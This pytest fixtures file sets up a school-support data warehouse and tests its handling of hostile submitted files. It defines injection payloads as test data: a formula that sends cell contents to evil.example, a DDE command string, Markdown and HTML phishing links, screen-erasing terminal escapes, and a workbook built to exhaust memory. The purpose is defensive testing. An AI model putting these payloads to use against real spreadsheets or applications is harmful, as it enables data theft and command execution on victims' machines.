"""Shared fixtures: warehouses built once per test session with the real pipeline."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from warehouse.demo import DATA_DIR
from warehouse.publish.load import load


@pytest.fixture(scope="session")
def demo_warehouse(tmp_path_factory) -> Path:
    """`stls demo` into a temporary folder: real readers, audit, dbt build, publish."""
    path = tmp_path_factory.mktemp("demo") / "stls.duckdb"
    load([DATA_DIR], path, kind="demo", fresh=True)
    return path


@pytest.fixture(scope="session")
def edge_warehouse(tmp_path_factory) -> Path:
    """The demo with the awkward cases a real term brings.

    Tunbridge Wells reports 3 secondary pupils on caseload in every term of 2023-24 (a
    count to suppress), Dover's January 2024 census has 3 early-years EHC plans, Dover has
    sent no return for 2023-24 term 4, and Swale's term 4 return is held back (a negative
    value).
    """
    data = tmp_path_factory.mktemp("edge_data") / "data"
    shutil.copytree(DATA_DIR, data)
    returns = data / "returns" / "2023-24"
    for term in (1, 2, 3, 4):
        path = returns / f"term{term}" / f"stls_return_tunbridge_wells_2023-24_t{term}.csv"
        rows = list(csv.reader(path.open(encoding="utf-8")))
        primary = next(int(r[5]) for r in rows if r[3] == "primary" and r[4] == "caseload")
        for r in rows:
            if r[3] == "secondary" and r[4] == "caseload":
                r[5] = "3"
            if r[3] == "school_age" and r[4] == "actively_supported":
                r[5] = str(min(int(r[5]), primary + 3))
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)
    (returns / "term4" / "stls_return_dover_2023-24_t4.xlsx").unlink()
    swale = returns / "term4" / "stls_return_swale_2023-24_t4.csv"
    lines = swale.read_text(encoding="utf-8").splitlines()
    lines[1] = ",".join([*lines[1].split(",")[:5], "-1"])
    swale.write_text("\n".join(lines) + "\n", encoding="utf-8")
    census = data / "census" / "school_census_january_2024.csv"
    text = census.read_text(encoding="utf-8").replace(
        "2024,Dover,early_years,49,1979,148,38", "2024,Dover,early_years,49,1979,148,3"
    )
    census.write_text(text, encoding="utf-8")
    path = tmp_path_factory.mktemp("edge") / "stls.duckdb"
    load([data], path, kind="demo", fresh=True)
    return path


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """The bytes behind every download button, by the URL the button points at."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    saved: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        saved[self.get_url(file_id)] = bytes(path_or_data)
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    return saved


# Text a hostile or careless sender can put in a file (issue 9): Markdown that would draw a
# link and fetch a tracking image, HTML and Streamlit directives, spreadsheet formulas, and
# terminal escapes that would move the cursor up and erase the steward's screen.
MARKDOWN_PAYLOAD = "[Resubmit here](https://evil.example/login) ![x](https://evil.example/px.png)"
HTML_PAYLOAD = (
    '<img src="https://evil.example/h.png"> <b>bold</b> :red[alert] $x^2$ www.evil.example '
    "x@evil.example :smile: :material/warning: &#x1F600;"
)
FORMULA_PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
COMMAND_PAYLOAD = "+cmd|' /C calc'!A0"
TERMINAL_PAYLOAD = "\x1b[6A\x1b[J26 published + 0 quarantined"
HOSTILE_FILE_NAME = "=1+1 [here](https:evil.example) thanet_2023-24_t4.csv"
TERMLY_HEADER = ["district", "academic_year", "term", "phase", "measure", "value"]


def hostile_return(folder: Path) -> Path:
    """Thanet's 2023-24 term 4 return again, carrying every payload above: the phase of one
    row is the Markdown link and the HTML (so both are in the reason the submission is
    held), a measure the HTML, values the terminal escapes (the first failing value, so
    `stls dq` quotes it), a formula and a command, one district a command, and one value -5
    (a negative number, which must stay a number in every download)."""
    source = DATA_DIR / "returns" / "2023-24" / "term4" / "stls_return_thanet_2023-24_t4.csv"
    rows = list(csv.reader(source.open(encoding="cp1252")))  # as Excel's plain CSV writes
    rows[1][3] = f"{MARKDOWN_PAYLOAD} {HTML_PAYLOAD}"
    rows[2][4] = HTML_PAYLOAD
    rows[3][5] = TERMINAL_PAYLOAD
    rows[4][5] = FORMULA_PAYLOAD
    rows[5][5] = COMMAND_PAYLOAD
    rows[6][0] = COMMAND_PAYLOAD
    rows[7][5] = "-5"
    rows[8][6] = FORMULA_PAYLOAD  # the notes column: kept in raw, never used
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / HOSTILE_FILE_NAME
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return path


def far_cell_workbook(folder: Path, name: str = "far.xlsx") -> Path:
    """A 5 KB workbook with a header at A1 and one number at XFD1048576, Excel's last cell:
    read as is, the engine asks for a grid of 17 billion cells and aborts the process."""
    import xlsxwriter

    path = folder / name
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Return")
        for col, header in enumerate(TERMLY_HEADER):
            sheet.write_string(0, col, header)
        sheet.write_number(1_048_575, 16_383, 1)
    return path


def good_return(folder: Path) -> Path:
    """Swale's 2023-24 term 4 return again, one figure changed: a good file to load beside
    the hostile ones."""
    source = DATA_DIR / "returns" / "2023-24" / "term4" / "stls_return_swale_2023-24_t4.csv"
    text = source.read_text(encoding="utf-8").replace(
        "Swale,2023-24,4,early_years,transition_events,3",
        "Swale,2023-24,4,early_years,transition_events,4",
    )
    path = folder / "swale_2023-24_t4_corrected.csv"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="session")
def hostile_warehouse(demo_warehouse, tmp_path_factory) -> Path:
    """The demo warehouse after one load of ``hostile_return``, ``far_cell_workbook`` and
    ``good_return``: Thanet's term 4 is held, the workbook rejected, Swale's return
    published; every page and output that shows received text has the payloads to show."""
    path = tmp_path_factory.mktemp("hostile") / "stls.duckdb"
    shutil.copyfile(demo_warehouse, path)
    folder = tmp_path_factory.mktemp("hostile_data")
    load([hostile_return(folder), far_cell_workbook(folder), good_return(folder)], path)
    return path
